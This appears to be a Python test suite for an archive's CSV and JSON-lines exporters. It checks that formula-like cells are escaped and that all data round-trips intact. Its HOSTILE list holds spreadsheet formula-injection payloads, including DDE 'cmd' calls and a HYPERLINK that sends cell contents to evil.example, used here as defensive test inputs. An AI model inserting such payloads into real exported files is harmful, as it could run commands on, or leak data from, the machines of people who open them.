"""Lines of JSON and CSV: nothing runs in a spreadsheet, nothing is lost on the way back."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from archive.exports.formats import as_printed, cell, csv_lines, json_lines

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "'=1+1",
    "''@x",
]
# What no text of the archive holds: PostgreSQL stores neither NUL nor half of a surrogate pair.
texts = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))
rows = st.lists(st.fixed_dictionaries({"id": st.integers(), "text": texts, "list": st.lists(texts)}))


def read_csv(lines):
    """Return records as a program reads them that knows nothing of the archive."""
    return list(csv.reader(io.StringIO("".join(lines), newline="")))


# --- spreadsheets ----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_opens_like_a_formula(text):
    written = cell(text)
    assert written == f"'{text}"
    assert as_printed(written) == text


@pytest.mark.parametrize(
    "text", ["", "'", "'tis", "a=b", "1-2", "“=”", "O'Neill", " plain", "5+5", "me@example"]
)
def test_harmless_text_is_left_alone(text):
    assert cell(text) == text
    assert as_printed(text) == text


def test_a_list_whose_first_text_is_a_formula_opens_with_a_bracket():
    assert cell(["=1+1"]) == '["=1+1"]'


def test_negative_numbers_stay_numbers():
    assert cell(-3) == "-3"
    assert cell(-0.5) == "-0.5"


def test_nothing_is_an_empty_cell_and_truth_a_word():
    assert [cell(None), cell(True), cell(False)] == ["", "yes", "no"]


@given(texts)
def test_no_text_ever_opens_like_a_formula(text):
    assert not cell(text).lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert cell(text)[:1] not in ("\t", "\r", "\n")


# --- there and back --------------------------------------------------------------------------------


@given(texts)
def test_every_text_comes_back_from_its_cell(text):
    assert as_printed(cell(text)) == text


@given(rows)
def test_every_row_comes_back_from_csv(rows):
    header, *records = read_csv(csv_lines(rows, ("id", "text", "list")))
    assert header == ["id", "text", "list"]
    back = [
        {"id": int(number), "text": as_printed(text), "list": json.loads(listed)}
        for number, text, listed in records
    ]
    assert back == rows


@given(rows)
def test_every_row_comes_back_from_json_lines(rows):
    lines = "".join(json_lines(rows))
    assert [json.loads(line) for line in lines.splitlines()] == rows


@given(rows)
def test_the_same_rows_give_the_same_bytes(rows):
    assert list(json_lines(rows)) == list(json_lines(rows))
    assert list(csv_lines(rows, ("id", "text"))) == list(csv_lines(rows, ("id", "text")))


@pytest.mark.parametrize(
    "sign", ["\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
)
def test_no_sign_of_a_text_ends_a_line_of_json(sign):
    (line,) = json_lines([{"text": f"one{sign}two"}])
    assert len(line.splitlines()) == 1
    assert json.loads(line) == {"text": f"one{sign}two"}


def test_csv_has_the_line_ends_and_quotes_of_rfc_4180():
    lines = list(csv_lines([{"a": 'say "no", please\nnow', "b": None}], ("a", "b")))
    assert lines == ["a,b\r\n", '"say ""no"", please\nnow",\r\n']


def test_letters_beyond_ascii_are_written_as_they_are():
    assert list(json_lines([{"name": "Ḥaydar al-ʿAbādī"}])) == ['{"name":"Ḥaydar al-ʿAbādī"}\n']


def test_rows_are_asked_for_one_by_one():
    taken = []

    def endless():
        number = 0
        while True:
            taken.append(number)
            yield {"id": number}
            number += 1

    next(json_lines(endless()))
    assert taken == [0]
